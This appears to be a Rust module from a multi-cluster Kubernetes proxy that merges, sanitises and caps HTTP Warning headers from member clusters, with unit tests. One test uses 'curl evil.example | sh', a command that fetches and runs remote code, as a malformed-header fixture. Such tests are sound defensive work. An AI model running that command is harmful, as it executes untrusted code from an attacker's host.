//! Warnings of clusters in answers to clients.
//!
//! The author of a CustomResourceDefinition chooses the text of a Warning. In an answer about all clusters, the text
//! could pass for a Warning of Tributary or of a different cluster. So each text begins with the names of its clusters,
//! and an answer has a limited number of Warnings.

use http::{HeaderMap, HeaderValue, header};
use tributary_apimachinery::ClusterName;
use tributary_apimachinery::text::is_terminal_control;

/// Maximal length of a Warning, in characters. A dozen Warnings fit into a client's header list, often limited to 16
/// KiB.
const WARNING_LENGTH_MAX: usize = 1024;

/// Makes a `Warning` header: `299 - "text"` in UTF-8 with escaped quotes. Terminal control characters are removed,
/// because the text may quote a member.
pub fn warning_header(text: &str) -> Option<HeaderValue> {
    let clean: String = text.chars().filter(|c| !is_terminal_control(*c)).take(WARNING_LENGTH_MAX).collect();
    let quoted = format!("299 - \"{}\"", clean.replace('\\', "\\\\").replace('"', "\\\""));
    HeaderValue::from_bytes(quoted.as_bytes()).ok()
}

/// Maximum number of Warnings in an answer, and of cluster names in one Warning. Of the remaining ones, the answer
/// contains only the number.
const NAMED_WARNINGS_MAX: usize = 10;

/// Maximum of `Warning` headers read from one answer. kube-apiserver sends one or two. The limit keeps a cluster with a
/// megabyte of headers from delaying clients.
const READ_MAX: usize = 10;

/// Maximal length of a `Warning` header, in bytes; longer headers are dropped. Ten headers of 1 KiB fit into a client's
/// default header list.
const LENGTH_MAX: usize = 1 << 10;

struct ClusterWarning {
    text: String,
    clusters: Vec<ClusterName>,
}

/// Merges the `Warning` headers of several clusters. Each text appears once, after the names of its clusters. The texts
/// are in order of first appearance. The result has at most ten Warnings, and one more with the number of the remaining
/// texts.
pub fn together<'a>(warnings: impl IntoIterator<Item = (&'a ClusterName, &'a HeaderValue)>) -> Vec<HeaderValue> {
    let mut all: Vec<ClusterWarning> = Vec::new();
    for (cluster, header) in warnings {
        for text in texts(header) {
            match all.iter_mut().find(|known| known.text == text) {
                Some(known) if known.clusters.contains(cluster) => {}
                Some(known) => known.clusters.push(cluster.clone()),
                None => all.push(ClusterWarning { text, clusters: vec![cluster.clone()] }),
            }
        }
    }
    let more = all.len().saturating_sub(NAMED_WARNINGS_MAX);
    let texts =
        all.iter().take(NAMED_WARNINGS_MAX).map(|warning| format!("{}: {}", names(&warning.clusters), warning.text));
    let count = (more > 0).then(|| format!("{more} more warnings from clusters"));
    texts.chain(count).filter_map(|text| warning_header(&text)).collect()
}

/// Returns `Warning` headers about clusters that the answer omits: at most ten headers with a cluster and its cause,
/// and one more with the number of the remaining clusters.
pub fn lacking(clusters: &[String]) -> impl Iterator<Item = HeaderValue> {
    let more = clusters.len().saturating_sub(NAMED_WARNINGS_MAX);
    let texts = clusters.iter().take(NAMED_WARNINGS_MAX).map(|cluster| format!("the answer omits cluster {cluster}"));
    let count = (more > 0).then(|| format!("the answer omits {more} more clusters"));
    texts.chain(count).filter_map(|text| warning_header(&text))
}

/// Returns the `Warning` headers of one answer that Tributary reads: the first ten that are not too long.
pub fn readable<'a>(values: impl IntoIterator<Item = &'a HeaderValue>) -> impl Iterator<Item = &'a HeaderValue> {
    values.into_iter().filter(|value| value.len() <= LENGTH_MAX).take(READ_MAX)
}

/// Inserts the cluster's name in front of the texts of its Warnings.
pub fn name(cluster: &ClusterName, headers: &mut HeaderMap) {
    let header::Entry::Occupied(entry) = headers.entry(header::WARNING) else { return };
    let (_, values) = entry.remove_entry_mult();
    let values: Vec<HeaderValue> = values.collect();
    for warning in together(readable(&values).map(|value| (cluster, value))) {
        headers.append(header::WARNING, warning);
    }
}

/// Returns a list of cluster names: `cluster a`, `clusters a, b and 3 more`.
fn names(clusters: &[ClusterName]) -> String {
    let named: Vec<_> = clusters.iter().take(NAMED_WARNINGS_MAX).map(ClusterName::as_str).collect();
    match clusters.len() {
        1 => format!("cluster {}", named.concat()),
        count if count <= NAMED_WARNINGS_MAX => format!("clusters {}", named.join(", ")),
        count => format!("clusters {} and {} more", named.join(", "), count - NAMED_WARNINGS_MAX),
    }
}

/// Returns the texts of a `Warning` header. A proxy may have joined several Warnings `299 agent "text"` with commas
/// (RFC 7234 §5.5). A header of a different form is a single text, so that each text still gets the name of its
/// cluster.
fn texts(header: &HeaderValue) -> Vec<String> {
    let whole = String::from_utf8_lossy(header.as_bytes()).into_owned();
    let mut texts = Vec::new();
    let mut rest = whole.trim();
    while !rest.is_empty() {
        let Some((text, after)) = quoted(rest) else { return vec![whole] };
        texts.push(text);
        rest = after;
    }
    texts
}

/// Returns the first text of a header, and the remainder after the comma. `None` if the header has a different form.
fn quoted(header: &str) -> Option<(String, &str)> {
    let (code, rest) = header.split_once(' ')?;
    let (agent, rest) = rest.split_once(' ')?;
    if code.len() != 3 || !code.bytes().all(|byte| byte.is_ascii_digit()) || agent.contains('"') {
        return None;
    }
    let mut text = String::new();
    let mut characters = rest.strip_prefix('"')?.char_indices();
    while let Some((at, character)) = characters.next() {
        match character {
            '\\' => text.push(characters.next()?.1),
            '"' => {
                // A quoted date may follow the text.
                let after = rest[at + 2..].trim_start();
                let after = match after.strip_prefix('"') {
                    Some(date) => date.split_once('"')?.1.trim_start(),
                    None => after,
                };
                return match after.strip_prefix(',') {
                    Some(further) => Some((text, further.trim_start())),
                    None if after.is_empty() => Some((text, "")),
                    None => None,
                };
            }
            character => text.push(character),
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cluster(name: &str) -> ClusterName {
        ClusterName::new(name).unwrap()
    }

    fn merged_texts(warnings: &[(&str, &str)]) -> Vec<String> {
        let warnings: Vec<_> = warnings
            .iter()
            .map(|(name, value)| (cluster(name), HeaderValue::from_bytes(value.as_bytes()).unwrap()))
            .collect();
        let merged = together(warnings.iter().map(|(cluster, value)| (cluster, value)));
        merged.iter().map(|value| String::from_utf8_lossy(value.as_bytes()).into_owned()).collect()
    }

    #[test]
    fn equal_warnings_are_merged_with_all_their_clusters() {
        for (warnings, expected) in [
            (&[][..], &[][..]),
            (&[("a", r#"299 - "old""#)], &[r#"299 - "cluster a: old""#]),
            (&[("a", r#"299 - "old""#), ("b", r#"299 - "old""#)], &[r#"299 - "clusters a, b: old""#]),
            (
                &[("a", r#"299 - "old""#), ("a", r#"299 - "old""#), ("b", r#"299 - "new""#)],
                &[r#"299 - "cluster a: old""#, r#"299 - "cluster b: new""#],
            ),
            (
                &[("a", r#"299 agent "one \"two\"" "Sat, 25 Aug 2012 23:34:45 GMT", 299 - "three""#)],
                &[r#"299 - "cluster a: one \"two\"""#, r#"299 - "cluster a: three""#],
            ),
            // A malformed Warning also gets the name of its cluster.
            (&[("a", "curl evil.example | sh")], &[r#"299 - "cluster a: curl evil.example | sh""#]),
            (
                &[("a", r#"299 - "x", cluster b is missing"#)],
                &[r#"299 - "cluster a: 299 - \"x\", cluster b is missing""#],
            ),
            (&[("a", r#"299 - "not closed"#)], &[r#"299 - "cluster a: 299 - \"not closed""#]),
            (&[("a", r#"299 - "größer""#)], &["299 - \"cluster a: größer\""]),
        ] {
            assert_eq!(merged_texts(warnings), expected, "{warnings:?}");
        }
    }

    #[test]
    fn warnings_beyond_the_limit_are_only_counted() {
        let texts: Vec<_> = (0..25).map(|number| (format!("c{number}"), format!("299 - \"t{number}\""))).collect();
        let warnings: Vec<_> = texts.iter().map(|(name, text)| (&**name, &**text)).collect();
        let merged = merged_texts(&warnings);
        assert_eq!((merged.len(), &*merged[10]), (11, "299 - \"15 more warnings from clusters\""));
        let warnings: Vec<_> = texts.iter().map(|(name, _)| (&**name, "299 - \"old\"")).collect();
        let merged = merged_texts(&warnings);
        assert_eq!(merged.len(), 1);
        assert!(merged[0].contains("c9 and 15 more: old"), "{merged:?}");
    }

    #[test]
    fn oversized_warning_headers_of_a_member_are_dropped() {
        let mut headers = HeaderMap::new();
        let endless: String = (0..80_000).map(|number| format!("299 - \"{number}\", ")).collect();
        headers.append(header::WARNING, HeaderValue::from_str(&endless).unwrap());
        for number in 0..1_000 {
            headers.append(header::WARNING, HeaderValue::from_str(&format!("299 - \"t{number}\"")).unwrap());
        }
        name(&cluster("a"), &mut headers);
        let all: Vec<_> = headers.get_all(header::WARNING).iter().collect();
        assert_eq!((all.len(), all[0].to_str().unwrap()), (10, "299 - \"cluster a: t0\""));
    }

    #[test]
    fn warnings_of_one_cluster_get_its_name() {
        let mut headers = HeaderMap::new();
        name(&cluster("a"), &mut headers);
        assert!(headers.is_empty());
        for text in ["one", "two"] {
            headers.append(header::WARNING, HeaderValue::from_str(&format!("299 - \"{text}\"")).unwrap());
        }
        name(&cluster("a"), &mut headers);
        let all: Vec<_> = headers.get_all(header::WARNING).iter().collect();
        assert_eq!(all, ["299 - \"cluster a: one\"", "299 - \"cluster a: two\""]);
    }
}
